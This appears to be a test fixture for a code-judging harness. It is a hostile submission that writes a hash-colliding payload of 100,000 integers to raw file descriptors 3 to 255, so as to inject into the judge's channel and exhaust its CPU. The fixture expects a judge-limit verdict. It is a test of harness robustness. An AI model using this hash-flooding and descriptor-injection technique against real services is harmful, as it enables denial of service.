# verdict: judge_limit
# judge: {cpu_s: 1.0}
# limits: {cpu_s: 20.0}
# does: answers with a set of 100,000 integers that all have the same hash
import os
import time


def solve(values):
    step = (1 << 61) - 1
    items = ",".join('{"i":"%s"}' % hex(step * n) for n in range(1, 100_000))
    body = b'V[{"s":[' + items.encode() + b"]},null]"
    for descriptor in range(3, 256):
        try:
            left = memoryview(len(body).to_bytes(4, "big") + body)
            while left:
                left = left[os.write(descriptor, left) :]
        except OSError:
            continue
    time.sleep(30)
